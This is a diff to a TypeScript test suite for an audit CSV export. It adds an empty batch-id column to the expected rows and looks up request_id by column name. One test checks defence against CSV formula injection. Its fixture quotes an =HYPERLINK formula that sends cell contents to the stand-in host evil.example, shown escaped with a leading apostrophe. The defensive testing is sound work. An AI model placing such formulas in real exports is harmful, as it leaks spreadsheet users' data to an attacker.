@@ -65,9 +65,11 @@ describe('the audit download', () => {
         'Title: "Engineer" → "Manager"; Email: "" → "cas@example.com"',
         '',
         'csv-1',
+        '',
       ],
     ]);
-    expect(parseCsv(refusals.text.slice(1)).map((row) => row.at(-1))).toEqual([
+    const requestId = AUDIT_CSV_COLUMNS.indexOf('request_id');
+    expect(parseCsv(refusals.text.slice(1)).map((row) => row[requestId])).toEqual([
       'request_id',
       'csv-3',
     ]);
@@ -100,6 +102,7 @@ describe('the audit download', () => {
       `'=Title: "-2" → "+3"`,
       `'=HYPERLINK("http://evil.example/?q="&A1,"Click")`,
       "'\tTAB",
+      '',
     ]);
     expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",`);
   });
@@ -145,8 +148,8 @@ describe('the audit download', () => {
     const lines = res.text.split('\r\n');
     expect(lines).toHaveLength(20_002);
     expect(lines.at(-1)).toBe('');
-    expect(lines[1]).toMatch(/,bulk-20000$/);
-    expect(lines[20_000]).toMatch(/,bulk-1$/);
+    expect(lines[1]).toMatch(/,bulk-20000,$/);
+    expect(lines[20_000]).toMatch(/,bulk-1,$/);
     expect(new Set(lines).size).toBe(20_002);
   });
 });
@@ -222,5 +225,6 @@ function record(id: string): AuditRecord {
     changes: [],
     detail: null,
     requestId: `r-${id}`,
+    batchId: null,
   };
 }
